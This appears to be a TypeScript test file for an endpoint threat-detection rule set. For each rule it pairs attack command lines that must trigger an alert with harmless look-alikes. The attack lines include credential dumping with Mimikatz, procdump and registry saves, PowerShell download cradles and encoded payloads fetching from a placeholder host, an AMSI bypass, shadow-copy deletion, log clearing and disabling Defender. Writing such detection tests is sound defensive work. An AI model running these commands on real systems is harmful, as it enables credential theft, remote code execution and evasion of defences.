import { describe, expect, it } from 'vitest';
import { Bench, eventOf, machine, person } from '../testing';
import { decodeEncodedCommand } from './command-text';
import { COMMAND_RULES } from './index';

interface Case {
  /** Commands that must fire; `parent>command` names the parent, `script:` is a script block. */
  readonly hits: readonly string[];
  /** Near misses and benign twins. */
  readonly quiet: readonly string[];
}

const ENCODED = btoa(
  [...'IEX (New-Object Net.WebClient).DownloadString("http://x/a")'].map((c) => `${c}\0`).join(''),
);

const CASES: Readonly<Record<string, Case>> = {
  'endpoint.comsvcs-minidump': {
    hits: [
      'rundll32.exe C:\\windows\\System32\\comsvcs.dll MiniDump 756 C:\\t\\l.dmp full',
      'rundll32.exe comsvcs.dll, #24 624 x full',
    ],
    quiet: ['regsvr32.exe /s comsvcs.dll', 'rundll32.exe shell32.dll,Control_RunDLL'],
  },
  'endpoint.lsass-dump-tool': {
    hits: ['procdump64.exe -accepteula -ma lsass.exe out.dmp', 'Outflank-Dumpert.exe'],
    quiet: ['procdump64.exe -ma w3wp.exe out.dmp', 'sqldumper.exe 1234 0 0x0110'],
  },
  'endpoint.credential-tool': {
    hits: ['m.exe "privilege::debug" "sekurlsa::logonpasswords"', 'script:Invoke-Mimikatz -DumpCreds'],
    quiet: ['notepad.exe mimi.txt', 'script:Get-Process | Out-File a.txt'],
  },
  'endpoint.kerberos-ticket-tool': {
    hits: ['Rubeus.exe asktgt /user:a /rc4:81d3 /ptt', 'r.exe kerberoast /outfile:h.txt'],
    quiet: ['klist.exe purge', 'robocopy.exe a b /pt'],
  },
  'endpoint.sam-copy': {
    hits: [
      'reg.exe save HKLM\\sam sam',
      'esentutl.exe /y /vss C:\\windows/system32/config/SAM /d C:\\ProgramData\\SAM',
      '"reg" save HKLM\\security\\policy\\secrets C:\\t',
    ],
    quiet: [
      'reg.exe save HKLM\\SOFTWARE\\Contoso c.hiv',
      'reg export "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Winlogon\\Notifications" n.txt /y',
    ],
  },
  'endpoint.ntds-copy': {
    hits: [
      'ntdsutil.exe "ac i ntds" "ifm" "create full c:\\t" q q',
      'cmd.exe /c copy \\\\?\\GLOBALROOT\\Device\\X\\Windows\\NTDS\\ntds.dit c:\\t',
    ],
    quiet: ['ntdsutil.exe "metadata cleanup"', 'dir c:\\windows\\ntds'],
  },
  'endpoint.shadow-copy-created': {
    hits: ['vssadmin.exe create shadow /for=C:'],
    quiet: ['vssadmin.exe list shadows', 'wbengine.exe>vssadmin.exe create shadow /for=C:'],
  },
  'endpoint.credential-prompt': {
    hits: ['script:$c=$host.ui.PromptForCredential("Failed","x",$u,"d"); $c.GetNetworkCredential().Password'],
    quiet: ['script:$c = Get-Credential; Connect-AzAccount -Credential $c', 'cmdkey.exe /delete:server'],
  },
  'endpoint.mshta': {
    hits: [
      "mshta.exe javascript:a=(GetObject('script:https://x/m.sct')).Exec();close();",
      'mshta.exe "C:\\Users\\w\\a.hta"',
    ],
    quiet: ['mshta.exe "C:\\Program Files\\Vendor\\help.hta"', 'notepad.exe javascript:'],
  },
  'endpoint.rundll32': {
    hits: [
      'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication "',
      'rundll32.exe C:\\Users\\A~1\\AppData\\Local\\Temp\\rt.dll,a /p:rt',
    ],
    quiet: [
      'rundll32.exe C:\\Windows\\system32\\GeneralTel.dll,RunInUserCxt x',
      'rundll32.exe printui.dll,PrintUIEntry /in',
    ],
  },
  'endpoint.control-panel-item': {
    hits: ['control.exe C:\\ProgramData\\calc.cpl'],
    quiet: ['control.exe /name Microsoft.Mouse', 'control.exe C:\\Windows\\System32\\main.cpl'],
  },
  'endpoint.regsvr32': {
    hits: ['regsvr32.exe /s /n /u /i:https://x/f.sct scrobj.dll'],
    quiet: ['regsvr32.exe /s C:\\Windows\\System32\\msxml3.dll', 'regsvr32.exe /u old.ocx'],
  },
  'endpoint.certutil': {
    hits: ['certutil.exe -urlcache -split -f http://x/a.exe a.exe', 'certutil -decode a.txt a.exe'],
    quiet: ['certutil -v -store -silent My', 'certutil.exe -urlcache * delete'],
  },
  'endpoint.bitsadmin': {
    hits: ['bitsadmin.exe /transfer /Download /priority Foreground https://x/T.md C:\\t\\f.ps1'],
    quiet: ['bitsadmin.exe /list /allusers', 'bitsadmin.exe /reset'],
  },
  'endpoint.cmstp': {
    hits: ['cmstp.exe /s C:\\ProgramData\\T1218.003_uacbypass.inf /au'],
    quiet: ['cmstp.exe /s "C:\\Program Files\\Contoso VPN\\vpn.inf"', 'cmstp.exe /?'],
  },
  'endpoint.html-help': {
    hits: ['hh.exe C:\\ProgramData\\T1218.001.chm'],
    quiet: ['hh.exe "C:\\Program Files\\Tool\\users\\help.chm"', 'hh.exe C:\\Windows\\Help\\mmc.chm'],
  },
  'endpoint.msiexec-remote': {
    hits: ['msiexec.exe /q /i https://x/a.msi'],
    quiet: ['msiexec.exe /i C:\\setup\\a.msi /qn', 'msiexec.exe /x {GUID}'],
  },
  'endpoint.installutil': {
    hits: ['InstallUtil.exe /logfile= /LogToConsole=false /U C:\\Users\\a\\x.dll'],
    quiet: ['InstallUtil.exe "C:\\Program Files\\App\\svc.exe"', 'regasm.exe C:\\Windows\\a.dll'],
  },
  'endpoint.wmic-xsl': {
    hits: ['wmic.exe os get /format:"https://x/e.xsl"', 'wmic.exe /node:SRV1 process call create "cmd /c x"'],
    quiet: ['wmic.exe os get caption /format:list', 'wmic.exe product get name'],
  },
  'endpoint.mavinject': {
    hits: ['mavinject.exe 3440 /INJECTRUNNING C:\\ProgramData\\T1055.dll'],
    quiet: ['mavinject.exe /?', 'appvclient.exe /injectrunning'],
  },
  'endpoint.register-cimprovider': {
    hits: ['Register-CimProvider.exe -Path C:\\ProgramData\\T1218-2.dll'],
    quiet: ['Register-CimProvider.exe -Path C:\\Windows\\System32\\x.dll', 'Register-CimProvider.exe -?'],
  },
  'endpoint.developer-tool-proxy': {
    hits: ['msbuild.exe C:\\Users\\Public\\x.csproj'],
    quiet: ['msbuild.exe C:\\Users\\dev\\source\\repos\\app\\app.sln', 'msbuild.exe C:\\src\\a.sln'],
  },
  'endpoint.office-child': {
    hits: ['winword.exe>powershell.exe -nop -c calc', 'excel.exe>cmd.exe /c whoami'],
    quiet: ['explorer.exe>cmd.exe /c whoami', 'winword.exe>splwow64.exe 12288'],
  },
  'endpoint.script-from-user-folder': {
    hits: ['WScript.exe "C:\\Users\\p\\Desktop\\launcher.vbs"'],
    quiet: [
      'wscript.exe "C:\\Windows\\System32\\slmgr.vbs"',
      'cscript.exe C:\\Windows\\system32\\gatherNetworkInfo.vbs',
    ],
  },
  'endpoint.powershell-encoded': {
    hits: [`powershell.exe -noP -sta -w 1 -enc ${ENCODED}`],
    quiet: [
      'powershell.exe -ExecutionPolicy Restricted -Command Write-Host 1',
      `powershell.exe -EncodedCommand ${btoa('G\0e\0t\0-\0D\0a\0t\0e\0 \0-\0F\0o\0r\0m\0a\0t\0 \0o\0')}`,
    ],
  },
  'endpoint.powershell-cradle': {
    hits: [
      'powershell.exe IEX (New-Object Net.WebClient).DownloadString("http://x/a")',
      `powershell.exe -enc ${ENCODED}`,
      'script:iwr http://x/a | iex; IEX (New-Object Net.WebClient).DownloadString("u")',
    ],
    quiet: [
      'powershell.exe Invoke-WebRequest https://x/setup.exe -OutFile setup.exe',
      "powershell.exe iex ((New-Object Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))",
    ],
  },
  'endpoint.powershell-offensive': {
    hits: [
      "script:[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed')",
    ],
    quiet: ['script:Get-MpComputerStatus', 'powershell.exe Get-Help about_AMSI'],
  },
  'endpoint.scheduled-task-command': {
    hits: ['schtasks.exe /Create /F /SC DAILY /ST 09:00 /TN T /TR "powershell.exe -NonI -W hidden -c IEX x"'],
    quiet: [
      'schtasks.exe /Create /SC DAILY /TN Backup /TR "C:\\Program Files\\Backup\\b.exe"',
      'schtasks.exe /Query',
    ],
  },
  'endpoint.service-command': {
    hits: ['sc.exe create upd binpath= "cmd /c powershell -enc AAA"'],
    quiet: ['sc.exe create app binpath= "C:\\Program Files\\App\\a.exe"', 'sc.exe query'],
  },
  'endpoint.psexec': {
    hits: [
      'PsExec.exe -accepteula -s reg save x',
      'cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__16 2>&1',
    ],
    quiet: ['psexplorer.exe -x', 'notepad.exe psexec.txt'],
  },
  'endpoint.shadow-copies-deleted': {
    hits: [
      'vssadmin.exe delete shadows /all /quiet',
      'wmic.exe shadowcopy delete',
      'bcdedit.exe /set {default} recoveryenabled No',
    ],
    quiet: ['vssadmin.exe list shadows', 'wbengine.exe>vssadmin.exe delete shadows /for=C: /oldest'],
  },
  'endpoint.log-cleared-command': {
    hits: ['wevtutil.exe cl Security', 'script:Clear-EventLog -LogName Security'],
    quiet: [
      'wevtutil epl "Microsoft-Windows-WLAN-AutoConfig/Operational" w.evtx',
      'wevtutil qe Security /c:5',
    ],
  },
  'endpoint.firewall-opened': {
    hits: [
      'netsh advfirewall firewall add rule name="t" action=allow dir=in protocol=TCP localport=450',
      'netsh advfirewall set allprofiles state off',
    ],
    quiet: [
      'netsh advfirewall monitor show firewall',
      'netsh advfirewall firewall add rule name=a dir=in action=allow program="C:\\Program Files\\A\\a.exe"',
    ],
  },
  'endpoint.security-tool-tampering': {
    hits: [
      'powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true',
      'sc.exe stop WinDefend',
      'taskkill.exe /F /IM MsMpEng.exe',
    ],
    quiet: [
      'powershell.exe Get-MpPreference',
      'powershell.exe Set-MpPreference -DisableRealtimeMonitoring $false',
      'sc.exe stop spooler',
    ],
  },
  'endpoint.directory-discovery': {
    hits: ['net.exe group "Domain Admins" /domain', 'net1 user', 'nltest.exe /dclist:contoso'],
    quiet: ['net.exe use Z: \\\\srv\\share', 'net.exe start spooler', 'whoami.exe'],
  },
  'endpoint.run-key-command': {
    hits: [
      'reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v u /d "C:\\Users\\Public\\a.exe"',
    ],
    quiet: [
      'reg.exe add HKCU\\Software\\Contoso /v a /d 1',
      'reg.exe query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
    ],
  },
};

const imageOf = (command: string): string => {
  const first = /^"([^"]+)"|^(\S+)/.exec(command);
  const name = (first?.[1] ?? first?.[2] ?? '').split('\\').pop() ?? '';
  return name.includes('.') ? name : `${name}.exe`;
};

function eventFor(text: string) {
  const where = { actor: person('ann'), host: machine('pc1') };
  if (text.startsWith('script:')) {
    return eventOf(
      { kind: 'hostActivity', activity: 'scriptBlock', detail: text.slice(7), eventId: 4104, parameters: {} },
      where,
    );
  }
  const split = /^([\w.]+)>(.*)$/.exec(text);
  const command = split?.[2] ?? text;
  const parent = split?.[1];
  return eventOf(
    {
      kind: 'process',
      process: { fileName: imageOf(command), commandLine: command },
      ...(parent ? { parent: { fileName: parent } } : {}),
    },
    where,
  );
}

describe('command rules', () => {
  it('has a case for every rule, with a hit and two quiet ones', () => {
    expect(Object.keys(CASES).sort()).toEqual(COMMAND_RULES.map((r) => r.id).sort());
    for (const [id, c] of Object.entries(CASES)) {
      expect(c.hits.length, id).toBeGreaterThan(0);
      expect(c.quiet.length, id).toBeGreaterThan(1);
    }
  });

  it.each(Object.entries(CASES).flatMap(([id, c]) => c.hits.map((h) => [id, h] as const)))(
    '%s fires on %s',
    (id, text) => {
      const [signal] = new Bench().run([eventFor(text)], id);
      expect(signal?.detectorId).toBe(id);
      expect(signal?.evidence.some((e) => e.type === 'host' && e.role === 'compromised')).toBe(true);
    },
  );

  it.each(Object.entries(CASES).flatMap(([id, c]) => c.quiet.map((q) => [id, q] as const)))(
    '%s is quiet on %s',
    (id, text) => {
      expect(new Bench().run([eventFor(text)], id)).toEqual([]);
    },
  );

  it('finds a renamed program by its version resource', () => {
    const event = eventOf(
      {
        kind: 'process',
        process: { fileName: 'svc.exe', originalFileName: 'MSHTA.EXE', commandLine: 'svc.exe http://x/a' },
      },
      { host: machine('pc1') },
    );
    expect(new Bench().run([event], 'endpoint.mshta')).toHaveLength(1);
  });

  it('gives the two logs of one process the same key', () => {
    const keys = new Bench()
      .run([eventFor('reg.exe save HKLM\\sam sam'), eventFor('reg.exe save HKLM\\sam sam')])
      .map((s) => s.key);
    expect(new Set(keys).size).toBe(1);
  });

  it('decodes an encoded command and survives a damaged one', () => {
    expect(decodeEncodedCommand(`powershell -enc ${ENCODED}`)).toContain('DownloadString');
    expect(decodeEncodedCommand('powershell -enc !!!!')).toBeUndefined();
  });
});
